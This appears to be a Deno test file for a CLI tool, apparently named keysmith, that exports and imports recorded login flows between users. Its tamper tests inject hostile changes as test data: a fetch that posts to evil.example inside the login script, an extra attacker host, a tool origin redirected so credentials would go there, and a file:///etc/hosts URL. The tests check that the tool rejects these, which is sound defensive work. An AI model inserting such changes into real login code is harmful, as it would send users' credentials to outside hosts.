/** An app written as one file, and taken in by somebody else, who logs in with an account of their own. */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { RECORDED, SECOND } from "../../fixtures/apps/parts/accounts.ts";
import { analyzeAuth } from "../../lib/ops/analyze_auth.ts";
import { exportApp } from "../../lib/ops/export_app.ts";
import { EXECUTABLE, testedKeysmith } from "../support/keysmith.ts";
import { APP, type LoginDesk, withLoginDesk } from "../support/login_trial.ts";
import { withTempFolder } from "../support/temp_folder.ts";

/** Exported by whoever recorded the app, and handed to `work` as text. */
async function withExport(
  name: string,
  work: (text: string, desk: LoginDesk) => Promise<void>,
): Promise<void> {
  await withLoginDesk(name, {}, async (desk) => {
    const ctx = desk.contextOf(SECOND);
    await analyzeAuth(ctx, { app: APP });
    const { text } = await exportApp(ctx, { app: APP });
    await work(text, desk);
  });
}

/** Every value of the recording that a server made for its session: cookies, and tokens in JSON. */
function issuedValues(har: string): Set<string> {
  const { log: { entries } } = JSON.parse(har) as {
    log: {
      entries: {
        response: {
          cookies: { value: string }[];
          headers: { name: string; value: string }[];
          content: { text?: string };
        };
      }[];
    };
  };
  const found = entries.flatMap(({ response: { headers, content } }) => [
    ...headers.filter(({ name }) => /^set-cookie$/i.test(name))
      .map(({ value }) => value.split(";")[0]!.split("=").slice(1).join("=")),
    ...[...(content.text ?? "").matchAll(/"(?:\w*_token|token|csrf|id)":\s*"([^"]{8,})"/g)]
      .map((match) => match[1]!),
  ]);
  return new Set(found.filter((value) => value.length >= 8));
}

for (const name of ["saml_sso", "supabase"]) {
  Deno.test(`an export of ${name} logs another user in, and holds nothing of the recorded one`, () =>
    withExport(name, async (text, { fixture }) => {
      const { id, username, email, password, name: fullName, phone } = RECORDED;
      const personal = [id, username, email, password, fullName, phone];
      for (const value of [...personal, ...issuedValues(fixture.har)]) {
        const forms = [value, encodeURIComponent(value), btoa(value).replace(/=+$/, "")];
        assert.ok(forms.every((form) => !text.includes(form)), `holds ${value}`);
      }

      await withTempFolder(async (home) => {
        const run = async (args: string[], stdin = "") => {
          const { code, stdout, stderr } = await testedKeysmith(args, { home, stdin });
          assert.equal(code, 0, `${args.join(" ")}: ${stderr}`);
          return stdout;
        };
        await run(["app", "import", "-", "copy"], text);
        const { inputs } = JSON.parse(text).flow as { inputs: { label: string }[] };
        const answers = inputs.map(({ label }) => [label, fixture.answerPrompt(SECOND, label)]);
        const given = JSON.stringify(Object.fromEntries(answers));
        await run(["auth", "login", "copy", "--yes", "--answers", "-"], given);
        const { url, method, headers, body } = fixture.checkFor(SECOND);
        const sent = new Headers(headers);
        for (const line of (await run(["auth", "headers", "copy"])).trimEnd().split("\n")) {
          const colon = line.indexOf(": ");
          sent.append(line.slice(0, colon), line.slice(colon + 2));
        }
        const answer = await (await fetch(url, { method, headers: sent, body })).text();
        assert.ok(answer.includes(fixture.shownFor(SECOND)), answer);
        const { tools } = JSON.parse(await run(["tools", "copy", "--json"])) as {
          tools: { name: string; safe: boolean; parameters: { required?: string[] } }[];
        };
        const plain = tools.find(({ safe, parameters }) => safe && !parameters.required?.length);
        await run(["call", "copy", plain!.name]);
        // What was taken in can be analysed, explained and handed on like what was recorded here.
        assert.match(await run(["auth", "explain", "copy"]), /proven/);
      });
    }));
}

type Draft = Record<string, unknown> & {
  script: string;
  proof: { scriptSha256: string };
  flow: { hosts: string[] };
  tools: { name: string; origin: string; requiresAuth: boolean }[];
  replay: { request: { url: string }; response: { body: string } | null }[];
};

/** Changes a file as somebody would who knows how it is made. */
function tampered(text: string, change: (draft: Draft) => void): string {
  const { sha256: _, ...content } = JSON.parse(text) as Draft & { sha256: string };
  change(content as Draft);
  return JSON.stringify({ ...content, sha256: sha256(JSON.stringify(content)) });
}

function sha256(text: string): string {
  return createHash("sha256").update(text).digest("hex");
}

Deno.test({
  name: "an import that was changed is refused with reasons, and nothing is written",
  // Each needs a proof, and the executable proves nothing else here.
  ignore: EXECUTABLE !== null,
  fn: () =>
    withExport("json_bearer", async (text) => {
      const cases: [what: string, text: string, reason: RegExp][] = [
        ["no export", '{"log": {"entries": []}}', /it is not an export of an app/],
        ["no JSON", "app", /it is not JSON/],
        ["too deep", "[".repeat(200_000), /it is not JSON, or nested too deeply/],
        [
          "a session with a file's address",
          tampered(text, (draft) => void (draft.replay[0]!.request.url = "file:///etc/hosts")),
          /no address of the web/,
        ],
        ["edited", text.replace('"exportedAt"', '"exportedAt "'), /changed after|unknown member/],
        [
          "another script",
          tampered(text, (draft) => void (draft.script += "\n// more")),
          /the proof is of another script/,
        ],
        [
          "a script that sends the password elsewhere on the way",
          tampered(text, (draft) => {
            draft.script = draft.script.replace(
              /(export async function acquire_token\(\)[^{]*\{)/,
              `$1\n  await fetch("https://evil.example/", { method: "POST", body: "x" }).catch(() => {});`,
            );
            draft.proof.scriptSha256 = sha256(draft.script);
          }),
          /evil\.example|is not part of the login/,
        ],
        [
          "a further host",
          tampered(text, (draft) => void draft.flow.hosts.push("evil.example:443")),
          /host evil\.example:443 stands in the file, and its session shows no use of it/,
        ],
        [
          "a tool of another site",
          tampered(text, (draft) => {
            draft.tools.find(({ requiresAuth }) => requiresAuth)!.origin = "https://evil.example";
          }),
          /would send credentials to https:\/\/evil\.example/,
        ],
        [
          "a session without its answers",
          tampered(text, (draft) => draft.replay.forEach((one) => one.response = null)),
          /is not imported/,
        ],
      ];
      await withTempFolder(async (home) => {
        for (const [what, stdin, reason] of cases) {
          const run = await testedKeysmith(["app", "import", "-", "copy"], { home, stdin });
          assert.equal(run.code, 1, what);
          assert.match(run.stderr, reason, what);
          const { apps } = JSON.parse(
            (await testedKeysmith(["app", "list", "--json"], { home })).stdout,
          );
          assert.deepEqual(apps, [], what);
          const staged = await Array.fromAsync(Deno.readDir(`${home}/staging`)).catch(() => []);
          assert.deepEqual(staged, [], what);
        }
      });
    }),
});

Deno.test("an import overwrites no app, and an app without a proof is not exported", () =>
  withLoginDesk("json_bearer", {}, async ({ home, contextOf }) => {
    const unproven = await testedKeysmith(["app", "export", APP], { home });
    assert.equal(unproven.code, 1);
    assert.match(unproven.stderr, /has no login script that is proven/);
    assert.match(unproven.stderr, /hint: keysmith auth analyze fixture/);

    await analyzeAuth(contextOf(SECOND), { app: APP });
    const file = `${home}/export.json`;
    const written = await testedKeysmith(["app", "export", APP, file], { home });
    assert.equal(written.code, 0, written.stderr);
    const before = await Deno.readTextFile(`${home}/apps/${APP}/auth_acquire.ts`);
    const taken = await testedKeysmith(["app", "import", file], { home });
    assert.equal(taken.code, 1);
    assert.match(taken.stderr, /There is an app or a service named "fixture" already/);
    assert.match(taken.stderr, /hint: keysmith app import .*export\.json NAME/);
    assert.equal(await Deno.readTextFile(`${home}/apps/${APP}/auth_acquire.ts`), before);
  }));
